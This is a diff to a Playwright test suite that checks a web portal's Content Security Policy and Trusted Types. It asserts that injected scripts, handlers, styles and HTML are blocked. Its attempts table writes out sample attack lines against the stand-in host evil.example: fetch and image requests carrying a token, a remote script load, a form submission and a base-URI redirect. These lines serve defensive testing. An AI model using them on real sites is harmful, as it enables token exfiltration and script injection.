@@ -27,12 +27,15 @@ const planted = (page: Page): Promise<unknown> =>
 for (const without of [undefined, 'header', 'meta'] as const) {
   const how = without === undefined ? '' : ` even when the document comes without its ${without}`;
 
-  test(`an injected script, handler, and HTML string are blocked${how}`, async ({ page }) => {
+  test(`an injected script, handler, style, and HTML string are blocked${how}`, async ({ page }) => {
     const html =
       '<script>window.planted = 1</script><img src="/mediareact/none.png" alt="" onerror="window.planted = 1">';
-    const watch = await openTampered(page, { html, ...(without && { without }) });
+    // Only the document has the hashes of its styles.
+    const style = without === 'meta' ? '' : '<style>body { display: none }</style>';
+    const watch = await openTampered(page, { html: html + style, ...(without && { without }) });
     expect(watch.refused.join()).toContain('script-src-elem: inline');
     expect(watch.refused.join()).toContain('script-src-attr: inline');
+    expect(watch.refused.join().includes('style-src-elem: inline')).toBe(style !== '');
     const thrown = await page.evaluate(() => {
       try {
         document.body.innerHTML = '<b>planted</b>';
@@ -48,99 +51,39 @@ for (const without of [undefined, 'header', 'meta'] as const) {
   });
 }
 
-test('an injected style block is blocked', async ({ page }) => {
-  const watch = await openTampered(page, { html: '<style>body { display: none }</style>' });
-  await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
-  expect(watch.refused.join()).toContain('style-src-elem: inline');
-});
-
-/** What a script that got in could still try, and what stops it. */
-const attempts: { name: string; directive: string; attempt: () => void }[] = [
-  {
-    name: 'code made of a string',
-    directive: 'require-trusted-types-for',
-    // eslint-disable-next-line @typescript-eslint/no-implied-eval -- exactly this must be refused
-    attempt: () => void setTimeout('window.planted = 1'),
-  },
-  {
-    name: 'a script of another origin',
-    directive: 'require-trusted-types-for',
-    attempt: () => {
-      document.createElement('script').src = 'https://evil.example/x.js';
-    },
-  },
-  {
-    name: "an answer of the portal's own API as a script",
-    directive: 'require-trusted-types-for',
-    attempt: () => {
-      document.createElement('script').src = '/mediareact/api/org/types';
-    },
-  },
-  {
-    name: 'a second policy for strings',
-    directive: 'trusted-types',
-    attempt: () => {
-      const { trustedTypes } = window as unknown as {
-        trustedTypes: { createPolicy: (name: string, rules: object) => void };
-      };
-      trustedTypes.createPolicy('mine', { createHTML: (text: string) => text });
-    },
-  },
-  {
-    name: 'a call to another origin',
-    directive: 'connect-src',
-    attempt: () => void fetch('https://evil.example/?token=1').catch(() => undefined),
-  },
-  {
-    name: 'a picture of another origin',
-    directive: 'img-src',
-    attempt: () => {
-      new Image().src = 'https://evil.example/?token=1';
-    },
-  },
-  {
-    name: 'a form to another origin',
-    directive: 'form-action',
-    attempt: () => {
-      const form = document.createElement('form');
-      form.action = 'https://evil.example/';
-      document.body.append(form);
-      form.submit();
-    },
-  },
-  {
-    name: 'another base for links',
-    directive: 'base-uri',
-    attempt: () => {
-      const base = document.createElement('base');
-      base.href = 'https://evil.example/';
-      document.head.append(base);
-    },
-  },
-  {
-    name: 'an embedded page',
-    directive: 'frame-src',
-    attempt: () => {
-      const frame = document.createElement('iframe');
-      frame.src = 'https://evil.example/';
-      document.body.append(frame);
-    },
-  },
-  {
-    name: 'a style attribute',
-    directive: 'style-src-attr',
-    attempt: () => {
-      document.body.setAttribute('style', 'display: none');
-    },
-  },
-];
+/** What a script that got in could still try, and the directive that stops it. */
+const attempts = [
+  ['code made of a string', 'require-trusted-types-for', "setTimeout('window.planted = 1')"],
+  [
+    'a script of another origin',
+    'require-trusted-types-for',
+    "document.createElement('script').src = 'https://evil.example/x.js'",
+  ],
+  [
+    'an answer of the API as a script',
+    'require-trusted-types-for',
+    "document.createElement('script').src = '/mediareact/api/org/types'",
+  ],
+  ['a second policy for strings', 'trusted-types', "trustedTypes.createPolicy('mine', { createHTML: (text) => text })"],
+  ['a call to another origin', 'connect-src', "fetch('https://evil.example/?token=1').catch(() => undefined)"],
+  ['a picture of another origin', 'img-src', "new Image().src = 'https://evil.example/?token=1'"],
+  [
+    'a form to another origin',
+    'form-action',
+    "Object.assign(added('form'), { action: 'https://evil.example/' }).submit()",
+  ],
+  ['another base for links', 'base-uri', "added('base').href = 'https://evil.example/'"],
+  ['an embedded page', 'frame-src', "added('iframe').src = 'https://evil.example/'"],
+  ['a style attribute', 'style-src-attr', "document.body.setAttribute('style', 'display: none')"],
+] as const;
 
 test('an injected script can do nothing', async ({ page }) => {
   const watch = await openTampered(page, { html: '' });
-  for (const { name, directive, attempt } of attempts) {
+  await page.evaluate('window.added = (name) => document.body.appendChild(document.createElement(name))');
+  for (const [name, directive, script] of attempts) {
     await test.step(name, async () => {
       watch.refused.length = 0;
-      await page.evaluate(attempt).catch(() => undefined);
+      await page.evaluate(`void (${script})`).catch(() => undefined);
       await expect.poll(() => watch.refused.some((refusal) => refusal.startsWith(`${directive}:`)), name).toBe(true);
     });
   }
